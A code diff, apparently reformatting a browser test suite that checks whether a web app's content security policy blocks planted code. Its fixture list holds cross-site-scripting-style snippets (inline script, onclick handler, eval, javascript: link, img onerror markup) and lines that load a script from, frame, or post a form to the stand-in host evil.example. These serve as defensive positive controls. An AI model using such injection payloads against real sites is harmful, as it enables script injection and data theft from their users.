@@ -3,18 +3,35 @@ import { expect, openAsGuest, test } from './support.ts';
 /** H2: what an attacker would plant does nothing, and the policy says so. Positive controls: each must be caught. */
 const PLANTED: readonly (readonly [string, string])[] = [
   ['an inline script', `const s = document.createElement('script'); s.append('window.hit = 1'); document.body.append(s);`],
-  ['an inline handler', `const b = document.createElement('button'); b.setAttribute('onclick', 'window.hit = 1'); document.body.append(b); b.click();`],
+  [
+    'an inline handler',
+    `const b = document.createElement('button'); b.setAttribute('onclick', 'window.hit = 1'); document.body.append(b); b.click();`,
+  ],
   ['eval', `try { (0, eval)('window.hit = 1'); } catch {}`],
-  ['a javascript: link', `const a = document.createElement('a'); a.href = 'javascript:window.hit=1'; document.body.append(a); a.click();`],
-  ['a foreign script', `try { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s); } catch {}`],
+  [
+    'a javascript: link',
+    `const a = document.createElement('a'); a.href = 'javascript:window.hit=1'; document.body.append(a); a.click();`,
+  ],
+  [
+    'a foreign script',
+    `try { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s); } catch {}`,
+  ],
   ['a base element', `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b);`],
   ['a frame', `const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f);`],
-  ['a form to a foreign host', `const f = document.createElement('form'); f.action = 'https://evil.example/'; f.method = 'post'; document.body.append(f); f.submit();`],
-  ['markup from a string', `try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hit=1">'); } catch {}`],
+  [
+    'a form to a foreign host',
+    `const f = document.createElement('form'); f.action = 'https://evil.example/'; f.method = 'post'; document.body.append(f); f.submit();`,
+  ],
+  [
+    'markup from a string',
+    `try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hit=1">'); } catch {}`,
+  ],
 ];
 
 test.describe('The content policy', () => {
-  test.use({ expected: [/content policy:|localStorage|Content Security Policy|TrustedHTML|TrustedScript|Failed to set|evil\.example/] });
+  test.use({
+    expected: [/content policy:|localStorage|Content Security Policy|TrustedHTML|TrustedScript|Failed to set|evil\.example/],
+  });
 
   for (const [name, code] of PLANTED) {
     test(`stops ${name}`, async ({ page }) => {
